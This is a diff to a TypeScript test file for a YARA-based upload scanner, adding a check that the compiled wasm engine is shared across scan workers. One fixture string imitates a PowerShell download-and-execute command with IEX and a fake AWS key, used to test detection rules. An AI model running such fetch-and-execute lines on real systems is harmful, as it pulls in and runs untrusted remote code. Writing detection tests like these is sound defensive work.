@@ -1,7 +1,7 @@
 import t from 'tap'
 import { existsSync } from 'node:fs'
 import { serveScans, type FromScanWorker, type ToScanWorker } from '../forensics/inspection/scan-protocol.js'
-import { compileRules, scanWithRules, yaraWasmPath } from '../forensics/inspection/yara-engine.js'
+import { compileRules, compileYaraModule, scanWithRules, yaraWasmPath } from '../forensics/inspection/yara-engine.js'
 import { parseIocLists } from '../forensics/inspection/ioc-list.js'
 import { inScope, inspectionCaseId, parseUploadEvent } from '../forensics/inspection/upload-event.js'
 import { inspectionFromEnv, INSPECTION_ENV } from '../forensics/inspection/inspection-env.js'
@@ -32,6 +32,16 @@ t.test('the scan protocol: load, scan, refuse a bad file by name', async (t) => 
   t.match(hit, { type: 'matches', id: 7, matches: [{ rule: 'eicar_test_file', severity: 'high', tags: ['test'], patterns: [{ identifier: '$eicar', offset: 28 }] }] })
   t.match(w.send({ type: 'scan', id: 8, data: new TextEncoder().encode('x = DownloadString("http://e") ; IEX $x ; AKIAABCDEFGHIJKLMNOP') }), { matches: [{ rule: 'suspicious_powershell_download', severity: 'medium' }, { rule: 'aws_access_key_in_upload', severity: 'low' }] })
   t.match(w.send({ type: 'load', sources: [{ name: 'ok.yar', text: 'rule a { condition: true }' }, { name: 'broken.yar', text: 'rule b {' }] }), { type: 'load-failed', name: 'RuleLoadError', file: 'broken.yar', message: /broken\.yar does not compile/ })
+})
+
+t.test('the engine is compiled once per process and handed to every scan worker', async (t) => {
+  const module = await compileYaraModule()
+  t.ok(module instanceof WebAssembly.Module, 'the .wasm compiles in the scanner\'s thread')
+  t.equal(await compileYaraModule(), module, 'a second scanner gets the same compiled module (V8 shares its machine code with each worker)')
+  const exports = WebAssembly.Module.exports(module!).map((e) => e.name)
+  t.ok(['compiler_new', 'compiler_build', 'rules_scan'].every((n) => exports.includes(n)), 'it is the YARA-X engine the worker instantiates')
+  const w = inProcessWorker()
+  t.same(w.send({ type: 'load', sources: [{ name: 'test-rules.yar', text: TEST_RULES }], module }), { type: 'loaded', rules: 1 }, 'a load request carrying the module compiles the rules')
 })
 
 t.test('severity comes from meta, case-insensitive; unknown or missing is medium', async (t) => {
